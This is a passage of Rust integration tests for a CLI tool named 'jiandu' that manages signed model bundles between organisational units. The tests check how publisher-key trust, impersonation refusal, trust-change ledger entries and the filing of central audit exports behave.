        .success();
    let shown = jiandu(c.path())
        .args(["unit", "show", "--format", "json"])
        .output()
        .unwrap();
    let c_file = out_dir.path().join("c.json");
    std::fs::write(&c_file, &shown.stdout).unwrap();
    let c_unit: serde_json::Value = serde_json::from_slice(&shown.stdout).unwrap();
    let (c_key, c_fp) = (
        c_unit["public_key"].as_str().unwrap(),
        c_unit["fingerprint"].as_str().unwrap(),
    );

    // B cannot trust C's key under the code it already trusts A's under.
    let out = jiandu(b.path())
        .args(["trust", "add"])
        .arg(&c_file)
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains(&format!(
            "unit code {CODE_A} is already trusted, as {UNIT_A} ({CODE_A})"
        )),
        "{}",
        stderr(&out)
    );
    // Trusted under its real name, C's bundles claiming A's identity are
    // refused, naming both.
    jiandu(b.path())
        .args([
            "trust",
            "add",
            c_key,
            "--unit",
            "某某区人民检察院",
            "--code",
            "X1",
        ])
        .assert()
        .success();
    let err = refused(
        b.path(),
        MODEL,
        &bundle,
        &[
            &format!("says it was published by {UNIT_A} ({CODE_A})"),
            &format!("trusts key {c_fp} as 某某区人民检察院 (X1)"),
        ],
    );
    assert!(!err.contains("panicked"), "{err}");
    // And a registry whose index C signed is refused the same.
    let reg = registry_with(c.path(), &[&bundle]);
    refused(
        b.path(),
        MODEL,
        &reg_dir(&reg),
        &["trusts key", "as 某某区人民检察院 (X1)"],
    );

    // A's own bundle still imports, recorded under the trusted name.
    assert!(import(b.path(), MODEL, &a.bundle).status.success());
    let provenance: serde_json::Value = serde_json::from_slice(
        &std::fs::read(b.path().join("models").join(MODEL).join("provenance.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(provenance["publisher_unit"], UNIT_A);
    assert_eq!(provenance["publisher_code"], CODE_A);
}

#[test]
fn trust_changes_are_on_the_record_and_an_untrusted_publishers_model_does_not_run() {
    let a = unit_a();
    let b = unit_b_trusting(&a);
    assert!(import(b.path(), MODEL, &a.bundle).status.success());
    grant_to_publisher(b.path(), &a.fingerprint());
    let data = tempfile::tempdir().unwrap();
    ingest_generated(b.path(), data.path(), 100, 11);
    jiandu(b.path()).args(["run", MODEL]).assert().success();
    assert_eq!(
        trust_states(b.path()),
        [(MODEL.to_string(), "trusted".to_string())]
    );
    assert_eq!(
        trust_states(a.store.path()),
        [(MODEL.to_string(), "local".to_string())]
    );

    let trust_entries = |kind: &str| -> Vec<serde_json::Value> {
        ledger(b.path())
            .into_iter()
            .filter(|e| e["kind"] == kind)
            .collect()
    };
    let added = trust_entries("trust-added");
    assert_eq!(added.len(), 1, "{added:?}");
    assert_eq!(added[0]["operator"], "tester");
    assert_eq!(
        added[0]["run"]["params"]["fingerprint"],
        a.fingerprint().as_str()
    );
    assert_eq!(added[0]["run"]["params"]["unit"], UNIT_A);
    assert_eq!(added[0]["run"]["params"]["code"], CODE_A);

    let out = jiandu(b.path())
        .args(["trust", "remove", &a.fingerprint()])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains(&format!("still installed from this key: {MODEL}@1.0.0")),
        "{}",
        stderr(&out)
    );
    let removed = trust_entries("trust-removed");
    assert_eq!(removed.len(), 1);
    assert_eq!(removed[0]["operator"], "tester");
    assert_eq!(
        removed[0]["run"]["params"]["fingerprint"],
        a.fingerprint().as_str()
    );
    assert_eq!(removed[0]["run"]["params"]["unit"], UNIT_A);
    assert_eq!(removed[0]["run"]["params"]["code"], CODE_A);
    assert_eq!(
        trust_states(b.path()),
        [(MODEL.to_string(), "untrusted".to_string())]
    );
    let out = jiandu(b.path())
        .args(["model", "show", MODEL])
        .output()
        .unwrap();
    assert!(
        stdout(&out).contains("its key is no longer trusted: runs are refused"),
        "{}",
        stdout(&out)
    );

    // Refused by default, on the record, naming the publisher and the way
    // back.
    let out = jiandu(b.path()).args(["run", MODEL]).output().unwrap();
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "was published by {UNIT_A} ({CODE_A}), key {}",
            a.fingerprint()
        )) && err.contains("no longer trusts")
            && err.contains("jiandu trust add")
            && err.contains("allow_untrusted_publishers"),
        "{err}"
    );
    let last = ledger(b.path()).pop().unwrap();
    assert_eq!(last["kind"], "run-refused");

    // Allowed by policy: each such run says so.
    std::fs::write(
        b.path().join("jiandu.toml"),
        format!(
            "allow_untrusted_publishers = true\n[models.{MODEL}]\npublisher = \"{}\"\n",
            a.fingerprint()
        ),
    )
    .unwrap();
    jiandu(b.path()).args(["run", MODEL]).assert().success();
    let last = ledger(b.path()).pop().unwrap();
    assert_eq!(last["kind"], "run-finished");
    let publisher = last["run"]["model"]["publisher"].as_str().unwrap();
    assert!(
        publisher.contains(UNIT_A)
            && publisher.contains("key not trusted, run allowed by allow_untrusted_publishers"),
        "{publisher}"
    );

    // Trusted again: the runs name the publisher plainly.
    jiandu(b.path())
        .args(["trust", "add"])
        .arg(&a.key_file)
        .assert()
        .success();
    assert_eq!(trust_entries("trust-added").len(), 2);
    grant_to_publisher(b.path(), &a.fingerprint());
    jiandu(b.path()).args(["run", MODEL]).assert().success();
    let publisher = ledger(b.path()).pop().unwrap()["run"]["model"]["publisher"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(!publisher.contains("not trusted"), "{publisher}");
    assert_eq!(
        trust_states(b.path()),
        [(MODEL.to_string(), "trusted".to_string())]
    );

    // Trust changes are not runs in the report.
    let out = jiandu(b.path())
        .args(["audit", "report", "--format", "json"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let units: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    let models: Vec<&str> = units[0]["models"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["model"].as_str().unwrap())
        .collect();
    assert_eq!(models, [MODEL], "{units:?}");
}

#[test]
fn the_central_office_files_an_export_under_the_unit_its_key_is_registered_as() {
    // Unit C calls itself by A's name and code; the central office knows
    // both units by their keys.
    let dir = tempfile::tempdir().unwrap();
    let a = tempfile::tempdir().unwrap();
    let c = tempfile::tempdir().unwrap();
    for store in [a.path(), c.path()] {
        jiandu(store)
            .args(["unit", "init", "--name", UNIT_A, "--code", CODE_A])
            .assert()
            .success();
    }
    let show = |store: &Path, file: &str| {
        let out = jiandu(store)
            .args(["unit", "show", "--format", "json"])
            .output()
            .unwrap();
        let path = dir.path().join(file);
        std::fs::write(&path, &out.stdout).unwrap();
        path
    };
    let (a_file, c_file) = (show(a.path(), "a.json"), show(c.path(), "c.json"));
    let central = tempfile::tempdir().unwrap();
    jiandu(central.path())
        .args(["audit", "unit", "add"])
        .arg(&a_file)
        .assert()
        .success();
    jiandu(central.path())
        .args(["audit", "unit", "add"])
        .arg(&c_file)
        .args(["--name", "某某区人民检察院", "--code", "X1"])
        .assert()
        .success();

    // C's ledger gets an entry (a trust change is one), and C exports it.
    jiandu(c.path())
        .args(["trust", "add"])
        .arg(&a_file)
        .assert()
        .success();
    let export = dir.path().join("c.jsonl");
    jiandu(c.path())
        .args(["audit", "export", "-o"])
        .arg(&export)
        .assert()
        .success();
    let out = jiandu(central.path())
        .args(["audit", "import"])
        .arg(&export)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains(&format!(
            "the unit calls itself {UNIT_A} ({CODE_A}); it is registered here as 某某区人民检察院 (X1)"
        )),
        "{}",
        stdout(&out)
    );
    let out = jiandu(central.path())
        .args(["audit", "report", "--central", "--format", "json"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let units: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    let filed: Vec<(&str, &str, u64)> = units
        .iter()
        .map(|u| {
            (
                u["unit"].as_str().unwrap(),
                u["code"].as_str().unwrap(),
                u["entries"].as_u64().unwrap(),
            )
        })
        .collect();
    assert!(filed.contains(&("某某区人民检察院", "X1", 1)), "{filed:?}");
    assert!(filed.contains(&(UNIT_A, CODE_A, 0)), "{filed:?}");
}
